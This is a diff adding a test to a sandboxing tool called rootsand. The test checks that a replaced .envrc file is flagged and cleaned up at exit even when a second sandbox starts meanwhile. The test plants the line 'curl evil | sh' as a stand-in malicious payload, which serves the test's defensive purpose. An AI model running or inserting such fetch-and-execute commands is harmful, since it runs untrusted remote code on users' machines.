@@ -199,6 +199,24 @@ def test_a_protection_lifted_from_outside_during_the_run_is_caught_at_exit(tmp_p
     assert (".vscode.STAMP" in names) == (not existing) and ".vscode" not in names
 
 
+def test_a_lifted_protection_is_caught_though_a_second_sandbox_started_meanwhile_covers_it(tmp_path):
+    # The second sandbox pinned what it found, the planted file: only the first one knows what was there.
+    (tmp_path / ".envrc").write_text("export MINE=1\n")
+    first = _run_with_a_pause(tmp_path, "echo 'curl evil | sh' > .envrc && echo written && read y")
+    assert first.stdout.readline() == "ready\n"
+    os.unlink(tmp_path / ".envrc")
+    first.stdin.write("go\n")
+    first.stdin.flush()
+    assert first.stdout.readline() == "written\n"
+    second, _ = start(tmp_path)  # it pins what it finds: the planted .envrc
+    try:
+        out, err = first.communicate("end\n", timeout=30)
+        assert f"rootsand: warning: {tmp_path}/.envrc was replaced during the run" in err
+        assert ".envrc" not in listing(tmp_path)
+    finally:
+        stop(second)
+
+
 def test_under_fakeroot_what_protection_makes_is_the_users(tmp_path):
     # Root inside is a subordinate id there: placeholders made as root would belong to an id whose files
     # the user cannot remove, and a leftover .git of that id would get a second run's .git/config inside.
